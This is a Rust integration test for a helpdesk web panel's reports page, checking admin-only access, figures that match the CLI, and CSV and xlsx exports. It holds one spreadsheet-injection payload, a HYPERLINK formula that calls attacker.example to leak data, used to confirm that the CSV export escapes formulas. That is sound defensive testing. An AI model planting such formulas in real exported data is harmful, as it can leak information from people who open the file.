//! Reports in the web panel of the real `helpdesk serve`: administrators see
//! the figures of `helpdesk report` and of the export's Summary sheet for a
//! period, branch and kinds (the same numbers as the CLI and the file), and
//! download the export as xlsx or CSV; nobody else does.

mod support;

use calamine::{Data, Reader, Xlsx};
use chrono::{Duration, Utc};
use helpdesk::domain::{BranchKey, Kind, Priority};
use helpdesk::services::{Actor, App, directory, requests};
use support::fake_telegram::FakeTelegram;
use support::web::{Panel, tile};
use support::{ADMIN, STOREKEEPER, SUPPORT, Workdir};

const AUTHOR: i64 = 555_000_901;
/// A description a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")";

fn file(app: &App, kind: Kind, branch: &str) -> i64 {
    support::file_request(app, AUTHOR, kind, Some(branch), Priority::Medium, "Не печатает")
}

fn day(offset_days: i64) -> String {
    (Utc::now().with_timezone(&chrono_tz::Europe::Kyiv) + Duration::days(offset_days)).format("%Y-%m-%d").to_string()
}

/// Requests over the last weeks: five in the last 30 days (three repairs in
/// Lviv, one accepted and done; two cartridge orders at the head office), two
/// repairs 40 days ago.
fn setup() -> (Workdir, FakeTelegram, Panel) {
    let w = Workdir::seeded();
    let (app, clock) = w.app();
    support::add_person(&app, AUTHOR, "Автор Заявок", "LVIV");
    clock.set(Utc::now() - Duration::days(40));
    file(&app, Kind::Repair, "LVIV");
    file(&app, Kind::Repair, "HQ");
    clock.set(Utc::now() - Duration::days(10));
    let mut repairs: Vec<i64> = (0..2).map(|_| file(&app, Kind::Repair, "LVIV")).collect();
    repairs.push(support::file_request(&app, AUTHOR, Kind::Repair, Some("LVIV"), Priority::Medium, FORMULA));
    file(&app, Kind::Cartridge, "HQ");
    file(&app, Kind::Cartridge, "HQ");
    clock.advance(Duration::minutes(20));
    requests::accept(&app, &Actor::Telegram(SUPPORT), repairs[0]).unwrap();
    clock.advance(Duration::hours(2));
    requests::complete(&app, &Actor::Telegram(SUPPORT), repairs[0]).unwrap();
    let fake = FakeTelegram::start();
    let panel = Panel::start(&w, &fake, &[("HELPDESK_TIMEZONE", "Europe/Kyiv")]);
    (w, fake, panel)
}

#[test]
fn an_admin_sees_the_numbers_of_helpdesk_report_and_of_the_export() {
    let (w, _fake, panel) = setup();
    let admin = panel.sign_in(&w, ADMIN);
    let home = panel.get("/dashboard", Some(&admin)).text().unwrap();
    assert!(home.contains("href=\"/reports\""), "the bar links reports for an admin");
    // The last 30 days by default (the admin reads Ukrainian).
    let page = panel.get("/reports", Some(&admin)).text().unwrap();
    assert_eq!(tile(&page, "Подано"), 5, "{page}");
    assert_eq!(tile(&page, "Закрито за період"), 1);
    assert!(page.contains(&format!("value=\"{}\"", day(-29))) && page.contains(&format!("value=\"{}\"", day(0))));
    assert!(page.contains("<svg"), "charts");
    // The same numbers as `helpdesk report` for the period.
    let out = w
        .cmd()
        .args(["report", "--from", &day(-29), "--until", &day(0), "--format", "json"])
        .env("HELPDESK_TIMEZONE", "Europe/Kyiv")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let total = rows.as_array().unwrap().iter().find(|r| r["branch"] == "TOTAL").unwrap().clone();
    assert_eq!(total["opened"], 5);
    assert_eq!(total["closed"], 1);
    assert_eq!(tile(&page, "Порушення SLA"), total["sla_breaches"].as_u64().unwrap());
    // A wider period takes in the older two; one branch and one kind narrow it.
    let page = panel.get(&format!("/reports?from={}&until={}", day(-60), day(0)), Some(&admin)).text().unwrap();
    assert_eq!(tile(&page, "Подано"), 7);
    let (app, _) = w.app();
    let lviv = directory::branch(&app, &BranchKey::parse("LVIV").unwrap()).unwrap().id.0;
    let page = panel.get(&format!("/reports?branch={lviv}"), Some(&admin)).text().unwrap();
    assert_eq!(tile(&page, "Подано"), 3);
    let page = panel.get("/reports?kind=cartridge", Some(&admin)).text().unwrap();
    assert_eq!(tile(&page, "Подано"), 2);
    // A period that ends before it starts is said so.
    let page = panel.get(&format!("/reports?from={}&until={}", day(0), day(-5)), Some(&admin)).text().unwrap();
    assert!(page.contains("class=\"flash bad\""), "{page}");

    // The CSV: the five requests of the period, streamed as an attachment.
    let r = panel.get("/reports/requests.csv", Some(&admin));
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"requests-"));
    let csv = r.text().unwrap();
    assert_eq!(csv.lines().count(), 1 + 5, "{csv}");
    // Opened in a spreadsheet, text people typed stays text (OWASP: CSV injection).
    let fields: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    assert!(fields.contains(&format!("'{FORMULA}")), "{csv}");
    assert!(!fields.iter().any(|f| f.starts_with(['=', '+', '-', '@'])), "{csv}");
    // The workbook: its Summary sheet's total is the page's.
    let r = panel.get("/reports/requests.xlsx?kind=repair", Some(&admin));
    assert_eq!(r.status(), 200);
    let bytes = r.bytes().unwrap();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let summary = book.worksheet_range("Summary").unwrap();
    let total_row = summary.rows().find(|r| r[0] == Data::String("TOTAL".into())).unwrap();
    assert_eq!(total_row[2], Data::Float(3.0), "three repairs in the period");
    let page = panel.get("/reports?kind=repair", Some(&admin)).text().unwrap();
    assert_eq!(tile(&page, "Подано"), 3);
}

/// The navigation bar of a page for a signed-in person: the links between
/// `<nav class="nav"` and `</nav>`.
fn bar(page: &str) -> &str {
    let start = page.find("<nav class=\"nav\"").unwrap_or_else(|| panic!("no navigation bar: {page}"));
    let len = page[start..].find("</nav>").expect("the bar ends");
    &page[start..start + len]
}

#[test]
fn only_administrators_see_reports() {
    let (w, _fake, panel) = setup();
    for id in [SUPPORT, STOREKEEPER, AUTHOR] {
        let cookie = panel.sign_in(&w, id);
        assert_eq!(panel.get("/reports", Some(&cookie)).status(), 403, "{id}");
        // Not in the bar of a page they can open (an error page has no bar).
        let r = panel.get("/requests", Some(&cookie));
        assert_eq!(r.status(), 200, "{id}");
        let page = r.text().unwrap();
        let links = bar(&page);
        assert!(links.contains("href=\"/requests\""), "{id}: {links}");
        assert!(!links.contains("href=\"/reports\""), "{id}: not in the bar: {links}");
        for file in ["requests.csv", "requests.xlsx"] {
            let r = panel.get(&format!("/reports/{file}"), Some(&cookie));
            assert_eq!(r.status(), 403, "{id} {file}");
            assert!(r.headers().get("content-disposition").is_none());
        }
    }
    // Signed out: to the sign-in page.
    let r = panel.get("/reports", None);
    assert_eq!(r.status(), 303);
    // An admin demoted loses the page at the next request.
    let admin = panel.sign_in(&w, ADMIN);
    assert_eq!(panel.get("/reports", Some(&admin)).status(), 200);
    let r = panel.get("/requests", Some(&admin));
    assert_eq!(r.status(), 200);
    assert!(bar(&r.text().unwrap()).contains("href=\"/reports\""), "an administrator has it in the bar");
    let (app, _) = w.app();
    directory::set_role(&app, &Actor::Operator("t".into()), ADMIN, helpdesk::domain::Role::Support).unwrap();
    assert_eq!(panel.get("/reports", Some(&admin)).status(), 403);
}
